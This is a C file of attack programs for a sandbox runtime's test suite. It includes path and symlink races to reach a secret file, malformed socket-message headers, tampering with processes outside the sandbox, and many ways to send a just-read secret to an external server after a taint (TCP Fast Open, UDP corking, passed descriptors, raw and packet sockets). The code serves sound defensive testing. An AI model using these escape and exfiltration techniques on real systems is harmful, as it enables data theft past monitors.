// Attack programs for the runtime's attack suite: one subcommand per bypass class.
// Each prints what happened; the Rust tests decide what counts as blocked (an
// errno, a SIGSYS death, a server that never hears from us).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <sys/time.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <poll.h>
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <resolv.h>
#include <unistd.h>
#include <linux/fs.h>
#include <sys/ioctl.h>

static const char *SECRET_MARK = "TOP-SECRET";

static void report(const char *what, long r) {
    if (r < 0)
        printf("%s: errno=%d (%s)\n", what, errno, strerror(errno));
    else
        printf("%s: ok=%ld\n", what, r);
    fflush(stdout);
}

// Reads a file by fd; returns 1 if it holds the secret marker.
static int holds_secret(int fd) {
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    return n > 0 && strstr(buf, SECRET_MARK) != NULL;
}

// Opens `path` at least n times (while another thread or process rewrites it),
// counting the opens that got the workspace file and those that got the secret.
// Until both halves have been seen (an open that got the workspace file, and
// one refused) it goes on, up to 20 n rounds: where the kernel decides opens
// nothing blocks, and on a loaded machine the racing peer can sit in one state
// (or tear every copy) for all of n rounds. A yield every 64 rounds lets a peer
// on the same CPU move on. Both only add attempts.
static int loop_rounds, loop_refused, loop_other;
static void open_loop(const char *path, int n, int *good, int *leaked) {
    int i = 0;
    for (; i < n || ((*good == 0 || loop_refused == 0) && i < 20 * n); i++) {
        if (i % 64 == 63) sched_yield();
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            if (holds_secret(fd)) (*leaked)++;
            else (*good)++;
        } else if (errno == EACCES || errno == EPERM) {
            loop_refused++;
        } else {
            loop_other++;
        }
    }
    loop_rounds = i;
}

// ---- racing a path buffer from a second thread ----
static char race_buf[512];
static const char *race_a, *race_b;
static volatile int race_stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!race_stop) {
        strcpy(race_buf, race_a);
        strcpy(race_buf, race_b);
    }
    return NULL;
}

// ---- swapping a symlink from a second thread ----
static const char *swap_link, *swap_good, *swap_bad;
static void *swapper(void *arg) {
    (void)arg;
    char tmp[600];
    snprintf(tmp, sizeof tmp, "%s.tmp", swap_link);
    while (!race_stop) {
        unlink(tmp);
        symlink(swap_bad, tmp);
        rename(tmp, swap_link);
        unlink(tmp);
        symlink(swap_good, tmp);
        rename(tmp, swap_link);
    }
    return NULL;
}

static int inet_socket(int type, const char *ip, int port, struct sockaddr_in *sa) {
    memset(sa, 0, sizeof *sa);
    sa->sin_family = AF_INET;
    sa->sin_port = htons(port);
    inet_pton(AF_INET, ip, &sa->sin_addr);
    int s = socket(AF_INET, type, 0);
    if (s < 0) report("socket", s);
    return s;
}

// Reads a file (a secret) between creating a socket and using it, when given.
static void read_if(int argc, char **argv, int at) {
    if (argc > at) {
        int fd = open(argv[at], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
    }
}

// ---- hostile message headers (hostile-msg) ----
// Each variant is sent `hostile_n` times; it prints the first answer and how many
// answers were the same, so that the test can compare with the kernel's own.
static int hostile_n;
static int hostile_sp[2];

// Receives (and closes descriptors of) whatever reached the socketpair, so that
// sends that succeed never fill it.
static void drain(void) {
    char buf[256], cbuf[CMSG_SPACE(sizeof(int) * 253)];
    for (;;) {
        struct iovec iov = {buf, sizeof buf};
        struct msghdr m = {0};
        m.msg_iov = &iov;
        m.msg_iovlen = 1;
        m.msg_control = cbuf;
        m.msg_controllen = sizeof cbuf;
        if (recvmsg(hostile_sp[1], &m, MSG_DONTWAIT) < 0) return;
        for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
            if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
                for (int *f = (int *)CMSG_DATA(c); (char *)(f + 1) <= (char *)c + c->cmsg_len; f++) close(*f);
    }
}

static void variant(const char *what, long (*send_it)(void *), void *arg) {
    long first = 0;
    int first_errno = 0, same = 0;
    for (int i = 0; i < hostile_n; i++) {
        errno = 0;
        long r = send_it(arg);
        int e = r < 0 ? errno : 0;
        if (i == 0) {
            first = r;
            first_errno = e;
        }
        if (r == first && e == first_errno) same++;
        drain();
    }
    if (first < 0)
        printf("hostile %s: errno=%d same=%d\n", what, first_errno, same);
    else
        printf("hostile %s: ok=%ld same=%d\n", what, first, same);
    fflush(stdout);
}

struct hostile {
    int fd;
    struct msghdr m;
    struct mmsghdr mm[3];
    unsigned long vlen;
    void *vec;
};
static long do_sendmsg(void *p) {
    struct hostile *h = p;
    return syscall(SYS_sendmsg, h->fd, &h->m, 0);
}
static long do_sendmmsg(void *p) {
    struct hostile *h = p;
    return syscall(SYS_sendmmsg, h->fd, h->vec, h->vlen, 0);
}
static long do_sendto_200(void *p) {
    struct hostile *h = p;
    return syscall(SYS_sendto, h->fd, "x", 1, 0, h->m.msg_name, 200);
}
static long do_bad_msghdr(void *p) {
    struct hostile *h = p;
    return syscall(SYS_sendmsg, h->fd, (void *)8, 0);
}

// A control buffer: message 1 is SCM_RIGHTS with `nfds` copies of stdin, then
// (if len2 != 1) a second header whose cmsg_len is len2.
static size_t control(char *buf, size_t size, int nfds, uint64_t len1, uint64_t len2) {
    memset(buf, 0, size);
    struct cmsghdr *c = (struct cmsghdr *)buf;
    c->cmsg_len = len1 ? len1 : CMSG_LEN(sizeof(int) * nfds);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    for (int i = 0; i < nfds; i++) ((int *)CMSG_DATA(c))[i] = 0;
    size_t used = CMSG_SPACE(sizeof(int) * nfds);
    if (len2 != 1) {
        struct cmsghdr *d = (struct cmsghdr *)(buf + used);
        d->cmsg_len = len2;
        d->cmsg_level = SOL_SOCKET;
        d->cmsg_type = SCM_RIGHTS;
        used += CMSG_SPACE(sizeof(int));
    }
    return used;
}

static void hostile_msgs(const char *ip, int port, int n, const char *ordinary) {
    hostile_n = n;
    report("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, hostile_sp));
    struct sockaddr_in sa;
    int u = inet_socket(SOCK_DGRAM, ip, port, &sa);
    char byte = 'x', sabuf[256] = {0};
    memcpy(sabuf, &sa, sizeof sa);
    static char cbuf[CMSG_SPACE(sizeof(int) * 300) + 64];
    static struct iovec iovs[1100];
    for (int i = 0; i < 1100; i++) iovs[i] = (struct iovec){&byte, 1};
    struct hostile h = {0};
    struct iovec one = {&byte, 1};
#define RESET(sock)                                  \
    do {                                             \
        memset(&h, 0, sizeof h);                     \
        h.fd = (sock);                               \
        one = (struct iovec){&byte, 1};              \
        h.m.msg_iov = &one;                          \
        h.m.msg_iovlen = 1;                          \
    } while (0)
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);

    RESET(hostile_sp[0]);
    h.m.msg_control = cbuf;
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, UINT64_MAX);
    variant("second cmsg_len 2^64-1", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, UINT64_MAX - 6);
    variant("second cmsg_len 2^64-7", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, 0);
    variant("second cmsg_len 0", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 1UL << 40, 1);
    variant("cmsg_len 2^40", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 8, 1);
    variant("cmsg_len below the header", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, 1) - 1;
    variant("unaligned control buffer", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, 1) + 7;
    variant("trailing bytes after the last cmsg", do_sendmsg, &h);
    h.m.msg_controllen = 15;
    variant("control shorter than a header", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 254, 0, 1);
    variant("254 descriptors", do_sendmsg, &h);
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 253, 0, 1);
    variant("253 descriptors", do_sendmsg, &h);
    h.m.msg_controllen = SIZE_MAX;
    variant("msg_controllen 2^64-1", do_sendmsg, &h);
    h.m.msg_controllen = 1 << 20;
    variant("msg_controllen 1 MiB", do_sendmsg, &h);
    h.m.msg_controllen = 64;
    h.m.msg_control = (void *)8;
    variant("control unmapped", do_sendmsg, &h);

    RESET(hostile_sp[0]);
    one.iov_len = SIZE_MAX;
    variant("iov_len 2^64-1", do_sendmsg, &h);
    one.iov_len = 1;
    h.m.msg_iovlen = SIZE_MAX;
    variant("msg_iovlen 2^64-1", do_sendmsg, &h);
    h.m.msg_iov = iovs;
    h.m.msg_iovlen = 1025;
    variant("msg_iovlen 1025", do_sendmsg, &h);
    h.m.msg_iovlen = 1024;
    variant("msg_iovlen 1024", do_sendmsg, &h);
    h.m.msg_iov = (void *)8;
    h.m.msg_iovlen = 4;
    variant("iovec array unmapped", do_sendmsg, &h);
    variant("msghdr unmapped", do_bad_msghdr, &h);

    RESET(u);
    h.m.msg_name = sabuf;
    h.m.msg_namelen = 0xffffffffu;
    variant("msg_namelen 2^32-1", do_sendmsg, &h);
    h.m.msg_namelen = 200;
    variant("msg_namelen 200", do_sendmsg, &h);
    variant("sendto addrlen 200", do_sendto_200, &h);
    h.m.msg_control = cbuf;
    h.m.msg_controllen = control(cbuf, sizeof cbuf, 1, 0, 1);
    variant("SCM_RIGHTS over udp", do_sendmsg, &h);

    RESET(u);
    for (int i = 0; i < 3; i++) {
        h.mm[i].msg_hdr.msg_name = &sa;
        h.mm[i].msg_hdr.msg_namelen = sizeof sa;
        h.mm[i].msg_hdr.msg_iov = &one;
        h.mm[i].msg_hdr.msg_iovlen = 1;
    }
    h.mm[1].msg_hdr.msg_iovlen = SIZE_MAX;
    h.vec = h.mm;
    h.vlen = 0xffffffffUL;
    variant("sendmmsg vlen 2^32-1, bad second entry", do_sendmmsg, &h);
    h.vlen = (1UL << 32) | 3;
    variant("sendmmsg vlen 2^32+3", do_sendmmsg, &h);
    h.vec = (void *)-64L;
    h.vlen = 2;
    variant("sendmmsg vector at the top of memory", do_sendmmsg, &h);

    clock_gettime(CLOCK_MONOTONIC, &t1);
    long ms = (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000;
    fprintf(stderr, "hostile: %d of each in %ld ms\n", n, ms);
    // The monitor still answers ordinary calls.
    int fd = open(ordinary, O_RDONLY);
    report("after: open", fd >= 0 ? 0 : -1);
    report("after: unix send", send(hostile_sp[0], "y", 1, 0));
    report("after: udp sendto", sendto(u, "after", 5, 0, (struct sockaddr *)&sa, sizeof sa));
}

// ---- blocked opens (fifo-flood) ----
static const char *flood_fifo;
static volatile int flood_opened, flood_eagain;
static void *flood_open(void *arg) {
    (void)arg;
    int fd = open(flood_fifo, O_RDONLY);
    if (fd >= 0) {
        __sync_fetch_and_add(&flood_opened, 1);
        close(fd);
    } else if (errno == EAGAIN) {
        __sync_fetch_and_add(&flood_eagain, 1);
    }
    return NULL;
}

static long ms_since(const struct timespec *t0) {
    struct timespec t1;
    clock_gettime(CLOCK_MONOTONIC, &t1);
    return (t1.tv_sec - t0->tv_sec) * 1000 + (t1.tv_nsec - t0->tv_nsec) / 1000000;
}

static struct sockaddr_in flood_addr;
static volatile int flood_connected;
static void *flood_connect(void *arg) {
    (void)arg;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0 && connect(s, (struct sockaddr *)&flood_addr, sizeof flood_addr) == 0)
        __sync_fetch_and_add(&flood_connected, 1);
    return NULL;
}

static int flood_sock;
static volatile int flood_sent;
static void *flood_send(void *arg) {
    (void)arg;
    if (send(flood_sock, "x", 1, 0) == 1) __sync_fetch_and_add(&flood_sent, 1);
    return NULL;
}

// ---- naming processes outside the sandbox ----
static long pid_of(const char *spec) {
    if (!strcmp(spec, "ppid")) return getppid();
    if (!strncmp(spec, "file:", 5)) {
        // A pid the test writes once it knows it (clawless's own), waited for.
        for (int i = 0; i < 200; i++) {
            FILE *f = fopen(spec + 5, "r");
            long p = 0;
            if (f) {
                int ok = fscanf(f, "%ld", &p) == 1;
                fclose(f);
                if (ok && p > 0) return p;
            }
            usleep(25000);
        }
        return -1;
    }
    return atol(spec);
}

static void tamper(const char *spec) {
    long pid = pid_of(spec);
    char what[128];
    // Each call in a child of its own: a call the policy kills ends only it.
#define TRY(label, call) do { \
        snprintf(what, sizeof what, "%s %s", label, spec); \
        fflush(stdout); \
        pid_t c_ = fork(); \
        if (c_ == 0) { report(what, (long)(call)); _exit(0); } \
        int st_ = 0; \
        waitpid(c_, &st_, 0); \
        if (WIFSIGNALED(st_)) { printf("%s: killed by signal %d\n", what, WTERMSIG(st_)); fflush(stdout); } \
    } while (0)
    struct rlimit zero = {0, 0};
    TRY("prlimit64 FSIZE", syscall(SYS_prlimit64, pid, RLIMIT_FSIZE, &zero, NULL));
    TRY("setpriority", setpriority(PRIO_PROCESS, pid, 19));
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    TRY("sched_setaffinity", sched_setaffinity(pid, sizeof one, &one));
    struct sched_param sp = {0};
    TRY("sched_setscheduler", sched_setscheduler(pid, SCHED_IDLE, &sp));
    TRY("ioprio_set", syscall(SYS_ioprio_set, 1, pid, (3 << 13)));
    TRY("kill", kill(pid, SIGTERM));
    TRY("tgkill", syscall(SYS_tgkill, pid, pid, SIGTERM));
    TRY("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
    long pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        TRY("pidfd_send_signal", syscall(SYS_pidfd_send_signal, pidfd, SIGTERM, NULL, 0));
        struct iovec iov = {(void *)0x10000, 4096};
        TRY("process_madvise", syscall(SYS_process_madvise, pidfd, &iov, 1, MADV_COLD, 0));
        close(pidfd);
    }
    TRY("kcmp", syscall(SYS_kcmp, getpid(), pid, 0, 0, 0));
    unsigned long nodes = 1;
    TRY("migrate_pages", syscall(SYS_migrate_pages, pid, 8 * sizeof nodes, &nodes, &nodes));
    TRY("move_pages", syscall(SYS_move_pages, pid, 0, NULL, NULL, NULL, 0));
    void *head;
    size_t hlen;
    TRY("get_robust_list", syscall(SYS_get_robust_list, pid, &head, &hlen));
#undef TRY
}


// ---- sockets made before the taint, used after it (netleak) ----
static void taint(const char *secret) {
    int fd = open(secret, O_RDONLY);
    report("open secret", fd);
    if (fd >= 0) close(fd);
    usleep(100000);
}

static int netleak(const char *v, const char *ip, int port, const char *secret) {
    struct sockaddr_in sa;
    printf("netleak %s: started\n", v);
    fflush(stdout);
    if (!strcmp(v, "fastopen")) {
        // TCP Fast Open: sendto with MSG_FASTOPEN connects and sends.
        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
        report("fastopen before", sendto(s, "before\n", 7, MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof sa));
        usleep(100000);
        taint(secret);
        report("write after", write(s, "STOLEN\n", 7));
        report("send after", send(s, "STOLEN\n", 7, MSG_NOSIGNAL));
        return 0;
    }
    if (!strcmp(v, "tfo-connect")) {
        // TCP_FASTOPEN_CONNECT: connect() defers the handshake to the first write.
        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
        int one = 1;
        report("tfo option", setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one));
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        usleep(100000);
        taint(secret);
        report("write after", write(s, "STOLEN\n", 7));
        return 0;
    }
    if (!strcmp(v, "udp-more") || !strcmp(v, "udp-cork")) {
        // A connected UDP socket with a frame left pending (MSG_MORE, UDP_CORK)
        // before the taint; written (and uncorked) after it.
        int s = inet_socket(SOCK_DGRAM, ip, port, &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        if (!strcmp(v, "udp-more")) {
            report("send corked", send(s, "corked-", 7, MSG_MORE));
        } else {
            int one = 1;
            report("cork", setsockopt(s, IPPROTO_UDP, UDP_CORK, &one, sizeof one));
            report("write corked", write(s, "corked-", 7));
        }
        taint(secret);
        report("write after", write(s, "STOLEN\n", 7));
        int zero = 0;
        report("uncork", setsockopt(s, IPPROTO_UDP, UDP_CORK, &zero, sizeof zero));
        report("sendto after", sendto(s, "STOLEN\n", 7, 0, (struct sockaddr *)&sa, sizeof sa));
        return 0;
    }
    if (!strcmp(v, "udp-unconnected")) {
        // sendto before, then write/send/sendto after (the monitor made the socket).
        int s = inet_socket(SOCK_DGRAM, ip, port, &sa);
        report("sendto before", sendto(s, "before\n", 7, 0, (struct sockaddr *)&sa, sizeof sa));
        taint(secret);
        report("sendto after", sendto(s, "STOLEN\n", 7, 0, (struct sockaddr *)&sa, sizeof sa));
        report("write after", write(s, "STOLEN\n", 7));
        return 0;
    }
    if (!strcmp(v, "shared")) {
        // One connected socket in four places before the taint: a dup, a forked
        // child, a descriptor passed with SCM_RIGHTS; each writes after it.
        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        int d = dup(s);
        int sp[2], go[2];
        socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
        char byte = 'x', cbuf[CMSG_SPACE(sizeof(int))];
        struct iovec iov = {&byte, 1};
        struct msghdr m = {0};
        m.msg_iov = &iov;
        m.msg_iovlen = 1;
        m.msg_control = cbuf;
        m.msg_controllen = sizeof cbuf;
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &s, sizeof(int));
        report("send fd", sendmsg(sp[0], &m, 0));
        memset(cbuf, 0, sizeof cbuf);
        m.msg_controllen = sizeof cbuf;
        report("recv fd", recvmsg(sp[1], &m, 0));
        int r = -1;
        c = CMSG_FIRSTHDR(&m);
        if (c && c->cmsg_type == SCM_RIGHTS) memcpy(&r, CMSG_DATA(c), sizeof(int));
        pipe(go);
        pid_t child = fork();
        if (child == 0) {
            char b;
            read(go[0], &b, 1);
            report("child write after", write(s, "STOLEN-child\n", 13));
            _exit(0);
        }
        taint(secret);
        report("write after (dup)", write(d, "STOLEN-dup\n", 11));
        report("write after (passed)", write(r, "STOLEN-passed\n", 14));
        write(go[1], "g", 1);
        waitpid(child, NULL, 0);
        return 0;
    }
    if (!strcmp(v, "nonblocking")) {
        // A non-blocking connect still in flight when the secret is read.
        int s = inet_socket(SOCK_STREAM | SOCK_NONBLOCK, ip, port, &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        taint(secret);
        struct pollfd p = {s, POLLOUT, 0};
        report("poll", poll(&p, 1, 2000));
        report("write after", write(s, "STOLEN\n", 7));
        return 0;
    }
    if (!strcmp(v, "families")) {
        // Sockets no endpoint rule describes, each aimed at the server, before and
        // after the taint: raw IP, packet, SCTP, MPTCP.
        for (int round = 0; round < 2; round++) {
            if (round == 1) taint(secret);
            memset(&sa, 0, sizeof sa);
            sa.sin_family = AF_INET;
            sa.sin_port = htons(port);
            inet_pton(AF_INET, ip, &sa.sin_addr);
            int raw = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
            report("raw socket", raw);
            if (raw >= 0) {
                // A UDP header (checksum 0: none) and the payload.
                char pkt[8 + 7];
                struct udphdr *u = (struct udphdr *)pkt;
                u->source = htons(40000);
                u->dest = htons(port);
                u->len = htons(sizeof pkt);
                u->check = 0;
                memcpy(pkt + 8, "STOLEN\n", 7);
                report("raw sendto", sendto(raw, pkt, sizeof pkt, 0, (struct sockaddr *)&sa, sizeof sa));
            }
            int pk = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
            report("packet socket", pk);
            if (pk >= 0) {
                struct sockaddr_ll ll = {0};
                ll.sll_family = AF_PACKET;
                ll.sll_protocol = htons(ETH_P_IP);
                ll.sll_ifindex = 1;
                report("packet sendto", sendto(pk, "STOLEN\n", 7, 0, (struct sockaddr *)&ll, sizeof ll));
            }
            for (int k = 0; k < 3; k++) {
                int proto = k == 0 ? IPPROTO_SCTP : k == 1 ? 262 /* IPPROTO_MPTCP */ : IPPROTO_SCTP;
                int type = k == 2 ? SOCK_SEQPACKET : SOCK_STREAM;
                const char *what = k == 0 ? "sctp" : k == 1 ? "mptcp" : "sctp seqpacket";
                char label[64];
                int x = socket(AF_INET, type, proto);
                snprintf(label, sizeof label, "%s socket", what);
                report(label, x);
                if (x < 0) continue;
                snprintf(label, sizeof label, "%s connect", what);
                report(label, connect(x, (struct sockaddr *)&sa, sizeof sa));
                snprintf(label, sizeof label, "%s sendto", what);
                report(label, sendto(x, "STOLEN\n", 7, MSG_NOSIGNAL, (struct sockaddr *)&sa, sizeof sa));
            }
        }
        return 0;
    }
    printf("netleak: unknown variant %s\n", v);
    return 2;
}

static void *noop(void *arg) { return arg; }

// judge-race: senders of a UDP datagram whose last iovec is `race_slot`, while
// the main thread reads a secret into it (see the "judge-race" subcommand).
static char race_slot[128] = "race-before";
static char race_pad[1] = {'.'};
static int race_sock;
static struct sockaddr_in race_sa;
static volatile int race_stop;
static void *race_sender(void *arg) {
    static struct iovec iov[1024];
    for (int i = 0; i < 1023; i++) {
        iov[i].iov_base = race_pad;
        iov[i].iov_len = 1;
    }
    iov[1023].iov_base = race_slot;
    iov[1023].iov_len = 64;
    struct msghdr h = {.msg_name = &race_sa, .msg_namelen = sizeof race_sa, .msg_iov = iov, .msg_iovlen = 1024};
    for (int i = 0; i < 100000 && !race_stop; i++)
        if (sendmsg(race_sock, &h, 0) < 0) usleep(1000);
    return arg;
}

// ---- implicit connects and sends (netgap, socket-kinds, inherited) ----
// The secret's bytes, prefixed: what an attacker would send after the taint ("-":
// no secret is read, for the control run outside the sandbox).
static char gap_payload[300];
static void gap_secret(const char *path) {
    strcpy(gap_payload, "AFTER:");
    if (!strcmp(path, "-")) {
        strcat(gap_payload, "TOP-SECRET(control)\n");
        return;
    }
    int fd = open(path, O_RDONLY);
    report("open secret", fd);
    if (fd >= 0) {
        ssize_t n = read(fd, gap_payload + 6, sizeof gap_payload - 8);
        if (n > 0) gap_payload[6 + n] = 0;
        close(fd);
    }
    usleep(100000);
}

static void gap_write_after(int s) {
    report("write after", write(s, gap_payload, strlen(gap_payload)));
}

static void netgap(const char *how, const char *ip, int port, const char *secret) {
    struct sockaddr_in sa;
    int one = 1, zero = 0;
    if (!strcmp(how, "tfo-sendto") || !strcmp(how, "tfo-sendmsg")) {
        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
        if (!strcmp(how, "tfo-sendto")) {
            report("tfo send", sendto(s, "before\n", 7, MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof sa));
        } else {
            struct iovec iov = {"before\n", 7};
            struct msghdr m = {0};
            m.msg_name = &sa;
            m.msg_namelen = sizeof sa;
            m.msg_iov = &iov;
            m.msg_iovlen = 1;
            report("tfo send", sendmsg(s, &m, MSG_FASTOPEN));
        }
        usleep(100000);
        gap_secret(secret);
        gap_write_after(s);
        report("send after", send(s, gap_payload, strlen(gap_payload), 0));
        return;
    }
    if (!strcmp(how, "tfo-connect")) {
        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
        report("tfo opt", setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one));
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        usleep(100000);
        gap_secret(secret);
        gap_write_after(s);
        return;
    }
    // UDP corking: a datagram that arrives whole proves the channel first, then
    // a pending one is started before the taint and finished after it.
    int udp_connected = !strstr(how, "unconnected");
    int s = inet_socket(SOCK_DGRAM, ip, port, &sa);
    if (udp_connected) {
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
    } else {
        report("write before", sendto(s, "before\n", 7, 0, (struct sockaddr *)&sa, sizeof sa));
    }
    int cork = !strncmp(how, "udp-cork", 8);
    if (cork) report("cork opt", setsockopt(s, IPPROTO_UDP, UDP_CORK, &one, sizeof one));
    int more = cork ? 0 : MSG_MORE;
    if (udp_connected)
        report("pending send", send(s, "pending;", 8, more));
    else
        report("pending send", sendto(s, "pending;", 8, more, (struct sockaddr *)&sa, sizeof sa));
    gap_secret(secret);
    gap_write_after(s);
    if (cork) report("uncork", setsockopt(s, IPPROTO_UDP, UDP_CORK, &zero, sizeof zero));
}

// Tries each socket kind the default policy refuses: prints one line each.
static void socket_kinds(void) {
    report("socket packet", socket(AF_PACKET, SOCK_RAW, htons(3)));
    report("socket inet raw", socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
    report("socket inet raw icmp", socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
    report("socket inet6 raw", socket(AF_INET6, SOCK_RAW, IPPROTO_RAW));
    report("socket inet icmp ping", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
    report("socket inet sctp stream", socket(AF_INET, SOCK_STREAM, 132));
    report("socket inet sctp seqpacket", socket(AF_INET, SOCK_SEQPACKET, 132));
    report("socket inet6 sctp", socket(AF_INET6, SOCK_STREAM, 132));
    report("socket inet mptcp", socket(AF_INET, SOCK_STREAM, 262));
    report("socket inet6 mptcp", socket(AF_INET6, SOCK_STREAM, 262));
    report("socket inet udplite", socket(AF_INET, SOCK_DGRAM, 136));
    report("socket packet (old)", socket(AF_INET, SOCK_PACKET, htons(3)));
    report("socket vsock", socket(40, SOCK_STREAM, 0));
    report("socket key", socket(15, SOCK_RAW, 2));
    report("socket tipc", socket(30, SOCK_RDM, 0));
    report("socket rds", socket(21, SOCK_SEQPACKET, 0));
    // Still allowed: the kinds endpoint rules describe, and netlink (route).
    report("socket inet tcp", socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));
    report("socket inet udp", socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP));
    report("socket inet6 tcp", socket(AF_INET6, SOCK_STREAM, IPPROTO_TCP));
    report("socket unix", socket(AF_UNIX, SOCK_DGRAM, 0));
    report("socket netlink", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 0));
}


// ---- network conformance probe (net-probe) ----
// One request "VERB:KIND:ADDR": VERB connect|send|bind; KIND tcp|udp (inet),
// unix|unixd (pathname, stream|datagram), abs|absd (abstract, stream|datagram);
// ADDR IP:PORT, a path, or an abstract name. Prints "REQ: ok=" or "REQ: errno=".
static socklen_t probe_addr(const char *kind, const char *addr, struct sockaddr_storage *ss) {
    memset(ss, 0, sizeof *ss);
    if (!strcmp(kind, "tcp") || !strcmp(kind, "udp")) {
        char ip[64];
        snprintf(ip, sizeof ip, "%s", addr);
        char *colon = strrchr(ip, ':');
        if (!colon) return 0;
        *colon = 0;
        struct sockaddr_in *sa = (struct sockaddr_in *)ss;
        sa->sin_family = AF_INET;
        sa->sin_port = htons(atoi(colon + 1));
        inet_pton(AF_INET, ip, &sa->sin_addr);
        return sizeof *sa;
    }
    struct sockaddr_un *un = (struct sockaddr_un *)ss;
    un->sun_family = AF_UNIX;
    if (kind[0] == 'a') {
        size_t n = strlen(addr);
        if (n > sizeof un->sun_path - 1) n = sizeof un->sun_path - 1;
        memcpy(un->sun_path + 1, addr, n);
        return offsetof(struct sockaddr_un, sun_path) + 1 + n;
    }
    snprintf(un->sun_path, sizeof un->sun_path, "%s", addr);
    return sizeof *un;
}

static void probe(const char *req) {
    char buf[300];
    snprintf(buf, sizeof buf, "%s", req);
    char *verb = buf, *kind = strchr(buf, ':');
    if (!kind) return;
    *kind++ = 0;
    char *addr = strchr(kind, ':');
    if (!addr) return;
    *addr++ = 0;
    int inet = !strcmp(kind, "tcp") || !strcmp(kind, "udp");
    int dgram = !strcmp(kind, "udp") || !strcmp(kind, "unixd") || !strcmp(kind, "absd");
    int s = socket(inet ? AF_INET : AF_UNIX, dgram ? SOCK_DGRAM : SOCK_STREAM, 0);
    if (s < 0) { report(req, s); return; }
    struct sockaddr_storage ss;
    socklen_t len = probe_addr(kind, addr, &ss);
    long r;
    if (!strcmp(verb, "connect")) r = connect(s, (struct sockaddr *)&ss, len);
    else if (!strcmp(verb, "send")) r = sendto(s, "probe\n", 6, MSG_DONTWAIT, (struct sockaddr *)&ss, len);
    else if (!strcmp(verb, "bind")) r = bind(s, (struct sockaddr *)&ss, len);
    else r = -1, errno = EINVAL;
    report(req, r);
    close(s);
}

// Signals during calls the monitor performs (see exec_cli.rs).
static volatile sig_atomic_t sig_count;
static void count_signal(int s) { (void)s; sig_count++; }

static void on_signal(int sig, int restart) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = count_signal;
    sa.sa_flags = restart ? SA_RESTART : 0;
    sigaction(sig, &sa, NULL);
}

static void signal_storm(long usec) {
    struct itimerval it = {{0, usec}, {0, usec}};
    setitimer(ITIMER_REAL, &it, NULL);
}

